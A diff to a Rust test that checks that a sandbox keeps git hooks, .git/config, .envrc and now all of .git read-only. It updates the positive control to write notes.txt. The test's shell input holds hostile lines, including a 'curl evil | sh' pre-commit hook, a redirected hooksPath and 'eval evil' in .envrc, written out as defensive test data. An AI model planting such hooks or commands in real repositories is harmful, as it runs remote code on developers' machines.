@@ -93,7 +93,7 @@ fn protected_paths_are_read_only() {
         "default",
         "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo x > .git/hooks/post-checkout; \
          printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; echo 'eval evil' > .envrc; \
-         rm -f .envrc; mv .git/hooks .git/hooks2; echo ok > .git/HEAD; echo end",
+         rm -f .envrc; mv .git/hooks .git/hooks2; echo ok > .git/HEAD; echo ok > notes.txt; echo end",
     );
     let t = text(&o);
     assert!(t.contains("end"), "{t}");
@@ -102,11 +102,10 @@ fn protected_paths_are_read_only() {
     assert_eq!(mtime_and_hash(&ws.join(".envrc")), envrc);
     assert!(!ws.join(".git/hooks/post-checkout").exists());
     assert!(ws.join(".git/hooks").is_dir());
-    // Positive control: the rest of .git is writable.
-    assert_eq!(
-        std::fs::read_to_string(ws.join(".git/HEAD")).unwrap(),
-        "ok\n"
-    );
+    // The whole of .git is read-only now (P8), HEAD included.
+    assert!(!std::fs::read_to_string(ws.join(".git/HEAD")).unwrap_or_default().contains("ok"));
+    // Positive control: the rest of the workspace is writable.
+    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "ok\n");
 }
 
 /// E11: renaming a parent away and recreating the protected path fails too
